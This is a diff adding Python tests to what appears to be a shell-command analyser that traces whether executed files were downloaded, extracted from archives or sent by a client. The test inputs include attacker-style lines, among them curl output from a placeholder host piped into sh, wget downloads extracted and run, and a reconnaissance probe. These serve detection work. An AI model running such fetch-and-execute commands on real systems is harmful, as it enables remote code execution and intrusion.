@@ -252,3 +252,51 @@ def test_one_long_line_is_no_trouble(text: str) -> None:
     began = time.process_time()
     Script().line(text)
     assert time.process_time() - began < 5.0
+
+
+def origin_of_last(lines: list[str], name: str = "exec.origin") -> list[str] | None:
+    found = [f.values[name] for f in read_script(lines).facts[-1].values() if name in f.values]
+    return found[0] if found else None
+
+
+def test_an_archive_unpacked_into_the_root_makes_not_every_file_its_own() -> None:
+    assert origin_of_last(["wget http://h.example/a.tgz", "tar xzf a.tgz -C /", "/etc/init.d/cron"]) is None
+    assert origin_of_last(["wget http://h.example/a.tgz", "tar xzf a.tgz -C /q", "/q/x"]) == ["extracted"]
+
+
+def test_a_copy_of_a_tool_does_what_the_tool_does_until_another_file_takes_its_name() -> None:
+    lines = ["cp /usr/bin/wget /tmp/w", "/tmp/w -O /tmp/k http://h.example/k", "/tmp/k"]
+    assert origin_of_last(lines) == ["fetched"]
+    assert origin_of_last([lines[0], "cat > /tmp/w", *lines[1:]]) is None
+    assert origin_of_last(["cp /srv/wget /tmp/w", *lines[1:]]) is None
+
+
+def test_what_is_only_printed_is_not_brought_here() -> None:
+    assert origin_of_last(["curl http://h.example/a"], "fetch.source") is None
+    assert origin_of_last(["curl http://h.example/a | wc -l"], "fetch.source") is None
+    assert origin_of_last(["curl http://h.example/a | grep -v x | sh"], "fetch.source") == [
+        "http://h.example/a"
+    ]
+    assert origin_of_last(["curl http://h.example/a | grep x > f"], "fetch.source") == ["http://h.example/a"]
+    assert origin_of_last(["curl -o f http://127.0.0.1/a"], "fetch.source") is None
+
+
+def test_an_empty_file_is_a_probe_when_it_is_removed_as_it_is() -> None:
+    assert origin_of_last(["touch /tmp/.z; rm /tmp/.z"], "write.trivial") is True
+    assert (
+        origin_of_last(["touch /tmp/.z; echo 'id; uname -a; w' > /tmp/.z; rm /tmp/.z"], "write.trivial")
+        is None
+    )
+    assert origin_of_last(["touch /tmp/.z"], "write.trivial") is None
+
+
+def test_a_tar_that_nobody_feeds_unpacks_what_the_client_sends() -> None:
+    assert origin_of_last(["tar xzf - -C /q"], "stdin.origin") == ["client"]
+    assert origin_of_last(["tar xzf - -C /q", "sh /q/go"]) == ["extracted"]
+    assert origin_of_last(["cpio -i < a.cpio"], "stdin.origin") is None
+    assert origin_of_last(["cat a.tar | tar x"], "stdin.origin") is None
+
+
+def test_a_file_of_a_compilers_name_in_another_place_is_no_compiler() -> None:
+    lines = ["wget http://h.example/k.zip", "unzip k.zip", "./k/go"]
+    assert origin_of_last(lines) == ["extracted"]
